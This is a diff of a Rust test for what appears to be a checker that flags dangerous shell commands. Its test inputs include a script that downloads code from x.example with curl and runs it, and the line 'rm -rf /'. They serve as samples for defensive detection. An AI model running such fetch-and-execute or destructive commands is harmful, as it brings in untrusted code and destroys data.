@@ -42,7 +42,7 @@ fn a_script_is_judged_as_one_and_its_lines_are_named() {
     let script = b"#!/bin/bash\nset -e\ncurl -o /tmp/i.sh https://x.example/i.sh\nsh /tmp/i.sh\n";
     let ran = piped(&world, &["check"], script);
     assert_eq!(ran.code, Some(3), "{ran:?}");
-    assert!(ran.stdout.contains("line 4: `sh /tmp/i.sh`"), "{ran:?}");
+    assert!(ran.stdout.contains("line 4: `/tmp/i.sh`"), "{ran:?}");
     // Line by line nobody knows where the file comes from.
     let ran = piped(&world, &["check", "--lines"], b"ls\n\nrm -rf /\ndf -h\n");
     assert_eq!(ran.code, Some(3), "{ran:?}");
